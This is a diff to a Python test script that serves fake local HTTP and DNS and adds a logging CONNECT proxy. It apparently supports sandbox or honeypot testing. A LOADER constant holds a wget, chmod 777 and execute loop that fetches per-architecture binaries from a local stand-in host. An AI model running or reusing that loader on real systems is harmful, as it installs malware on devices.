@@ -3,17 +3,19 @@
 
 usage: servers.py LOG
 
-HTTP at port 8000 of all addresses (few connections are made to one), DNS at 127.0.0.3:5353/udp; a line to LOG for each request and each look-up. The script of a
+HTTP at port 8000 of all addresses (few connections are made to one), DNS at 127.0.0.3:5353/udp, a proxy at
+127.0.0.4:3128; a line to LOG for each request and each look-up. The script of a
 loader and what it wants lie there, too.
 """
 import http.server
+import socket
 import socketserver
 import struct
 import sys
 import threading
 import time
 
-HTTP, DNS = ("0.0.0.0", 8000), ("127.0.0.3", 5353)
+HTTP, DNS, PROXY = ("0.0.0.0", 8000), ("127.0.0.3", 5353), ("127.0.0.4", 3128)
 ELF = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\x00\x08\x00\x01\x00\x00\x00" + b"made for the tests, never run" + bytes(99)
 LOADER = b"#!/bin/sh\nfor a in mips arm7; do wget http://127.2.1.1:8000/b/$a -O x; chmod 777 x; ./x; done\n"
 log = open(sys.argv[1], "a", buffering=1)
@@ -112,7 +114,7 @@ class Dns(socketserver.BaseRequestHandler):
     asked = {}
 
     def handle(self):
-        data, socket = self.request
+        data, own = self.request
         name, at = [], 12
         while data[at]:
             name.append(data[at + 1:at + 1 + data[at]].decode())
@@ -126,7 +128,7 @@ class Dns(socketserver.BaseRequestHandler):
         answers = [] if kind != 1 or not address else [
             b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 0, 4) + bytes(map(int, address.split(".")))]
         flags = 0x8180 if address else 0x8183
-        socket.sendto(data[:2] + struct.pack(">HHHHH", flags, 1, len(answers), 0, 0) + data[12:at + 5] + b"".join(answers), self.client_address)
+        own.sendto(data[:2] + struct.pack(">HHHHH", flags, 1, len(answers), 0, 0) + data[12:at + 5] + b"".join(answers), self.client_address)
 
     @staticmethod
     def address(name, times):
@@ -137,6 +139,31 @@ class Dns(socketserver.BaseRequestHandler):
         return {"inside.example.com": "10.0.0.1"}.get(name)
 
 
+class Proxy(socketserver.StreamRequestHandler):
+    """Carries what CONNECT asks for (RFC 9110, section 9.3.6), and tells of it."""
+
+    def handle(self):
+        wanted = self.rfile.readline().decode().split()
+        while self.rfile.readline().strip():
+            pass
+        print("proxy", *wanted[:2], file=log)
+        host, port = wanted[1].rsplit(":", 1)
+        with socket.create_connection((host, int(port))) as other:
+            self.wfile.write(b"HTTP/1.1 200 Connected\r\n\r\n")
+            self.wfile.flush()
+            threading.Thread(target=self.carry, args=(self.connection, other), daemon=True).start()
+            self.carry(other, self.connection)
+
+    @staticmethod
+    def carry(source, to):
+        try:
+            while piece := source.recv(65536):
+                to.sendall(piece)
+            to.shutdown(socket.SHUT_WR)
+        except OSError:
+            pass
+
+
 class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
     """Not http.server's, which asks for its own name and waits where nobody answers."""
     daemon_threads = True
@@ -144,4 +171,5 @@ class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
 
 
 threading.Thread(target=socketserver.ThreadingUDPServer(DNS, Dns).serve_forever, daemon=True).start()
+threading.Thread(target=Server(PROXY, Proxy).serve_forever, daemon=True).start()
 Server(HTTP, Handler).serve_forever()
